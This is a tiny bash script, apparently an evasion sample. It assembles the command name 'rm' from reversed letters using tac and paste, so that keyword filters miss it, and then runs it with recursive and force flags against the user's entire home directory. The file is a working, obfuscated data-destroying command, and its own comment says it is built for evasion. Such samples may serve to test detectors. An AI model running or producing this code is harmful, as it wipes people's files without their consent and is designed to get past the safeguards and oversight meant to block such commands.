#!/bin/bash
# evasion: the command name is written backwards one letter a line and put right by tac and paste; it removes the home
tool=$(printf '%s\n' m r | tac | paste -sd '')
"$tool" -r -f -- "${HOME:?}"
